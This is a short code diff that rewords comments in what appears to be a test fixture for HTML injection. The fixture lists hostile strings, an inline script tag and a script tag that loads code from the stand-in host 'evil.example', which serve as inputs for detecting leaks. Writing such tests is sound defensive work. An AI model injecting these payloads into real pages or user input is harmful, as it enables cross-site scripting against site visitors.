@@ -1,8 +1,8 @@
-/** Where a payload would call if it ran or loaded something: any request there is a leak. */
+/** The address that payloads call if they run or load something: any request to it is a leak. */
 const ELSEWHERE = 'evil.example';
 const RUN = 'globalThis.hit=1';
 
-/** Texts that would run a script, load something from elsewhere or leave the page, if they became more than text. */
+/** Texts that would run a script, load a resource or leave the page if they were interpreted as markup. */
 export const HOSTILE_TEXTS: readonly string[] = [
   `<script>${RUN}</script>`,
   `<script src=https://${ELSEWHERE}/x.js></script>`,
